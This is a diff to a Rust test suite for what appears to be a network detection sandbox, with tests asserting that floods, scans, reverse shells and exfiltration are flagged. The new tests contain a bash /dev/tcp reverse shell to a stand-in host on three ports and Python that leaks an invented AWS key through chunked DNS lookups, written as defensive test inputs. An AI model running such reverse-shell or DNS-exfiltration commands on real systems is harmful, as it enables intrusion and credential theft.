@@ -12,7 +12,7 @@ use std::{
     time::{Duration, Instant},
 };
 
-use model::What;
+use model::{Canary, What};
 
 use super::testing::{NOW, ask, connect, python, run, run_with, shell};
 
@@ -88,7 +88,9 @@ fn a_flood_is_folded_into_one_event_and_memory_stays() {
     assert_eq!((shape.as_str(), target.as_str()), ("udp", "198.51.100.77:27015"));
     assert_eq!(*bytes, packets * 540);
     assert!(events.len() < 20, "{}", events.len());
-    assert_eq!(counts.packets_out + counts.packets_lost, 200_000, "{counts:?}");
+    // A few that the kernel says by itself on a new device may be among the lost.
+    let all = counts.packets_out + counts.packets_lost;
+    assert!((200_000..=200_016).contains(&all), "{counts:?}");
     println!("200,000 sent: {} read, {} lost at the queue", counts.packets_out, counts.packets_lost);
 }
 
@@ -116,21 +118,23 @@ fn a_scan_is_one_sweep_and_finds_little() {
     assert!(targets.abs_diff(512) < 20, "{targets}");
 }
 
+/// To a stranger's port, to one where web pages are, and to one whose server greets.
 #[test]
-fn a_reverse_shell_shows_itself() {
+fn a_reverse_shell_shows_itself_on_any_port() {
     let (events, _) = run(|_| {
-        shell(
-            "exec 3<>/dev/null; command -v bash >/dev/null && timeout 5 bash -c 'bash >& /dev/tcp/203.0.113.5/4443 0>&1'; true",
-        );
+        let shells: Vec<_> = [4443, 443, 22]
+            .into_iter()
+            .map(|port| {
+                let script = format!("timeout 7 bash -c 'sh 0<>/dev/tcp/203.0.113.5/{port} >&0 2>&0'; true");
+                std::process::Command::new("bash").args(["-c", &script]).spawn().expect("bash")
+            })
+            .collect();
+        for mut shell in shells {
+            shell.wait().expect("ends");
+        }
     });
-    let answers: Vec<&str> = events
-        .iter()
-        .filter_map(|event| match event {
-            What::Message { service, text, .. } if service == "shell" => Some(text.as_str()),
-            _ => None,
-        })
-        .collect();
-    assert!(answers.first().is_some_and(|answer| answer.starts_with("uid=0")), "{events:#?}");
+    let answers = |event: &What| matches!(event, What::Message { service, text, .. } if service == "shell" && text.contains("uid=0(root) gid=0"));
+    assert_eq!(events.iter().filter(|event| answers(event)).count(), 3, "{events:#?}");
 }
 
 #[test]
@@ -223,7 +227,20 @@ fn names_exist_unless_they_are_drawn_by_chance() {
     assert!(events.iter().any(ping));
 }
 
-/// The first share of a second connection, and only so much memory for a flood of connections.
+/// Credentials in pieces, each a label of a name, with a counter before it.
+#[test]
+fn a_canary_is_seen_in_a_tunnel_of_names() {
+    let canary = Canary { kind: "aws-key".into(), path: None, mark: "AKIAZ7INVENTEDMARK23".into() };
+    let (events, _) = run_with(vec![canary], None, |_| {
+        python(
+            "import socket\nloot = b'[default]\\naws_access_key_id = AKIAZ7INVENTEDMARK23\\n'.hex()\n\
+             for n in range(0, len(loot), 22):\n    socket.getaddrinfo('%d.%s.tunnel.example' % (n, loot[n:n + 22]), 80)",
+        );
+    });
+    let seen = |event: &What| matches!(event, What::FlowEnd { service, canaries, .. } if service == "dns" && canaries == &["aws-key"]);
+    assert!(events.iter().any(seen), "{events:#?}");
+}
+
 #[test]
 fn a_flood_of_requests_is_told_and_what_it_costs_is_bounded() {
     let before = resident_kib();
